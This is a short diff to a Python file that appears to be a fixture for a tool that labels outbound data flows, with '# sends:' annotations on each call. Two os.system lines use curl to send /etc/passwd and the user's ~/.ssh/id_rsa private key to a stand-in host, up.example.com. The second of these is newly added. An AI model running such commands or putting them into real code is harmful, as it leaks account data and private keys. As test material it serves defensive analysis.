@@ -5,7 +5,7 @@ URL = "https://up.example.com/in"
 
 
 def curl_string():
-    os.system("curl -X POST -d @/etc/passwd https://up.example.com/in")  # sends: -> up.example.com
+    os.system("curl -X POST -d @/etc/passwd https://up.example.com/in")  # sends: PERSON -> up.example.com
 
 
 def curl_list(email):
@@ -40,3 +40,7 @@ def elsewhere():
 
 def pushed():
     subprocess.run(["git", "push", "origin"])  # sends: -> ?
+
+
+def key_file():
+    os.system("curl -F file=@$HOME/.ssh/id_rsa https://up.example.com/k")  # sends: SECRET -> up.example.com
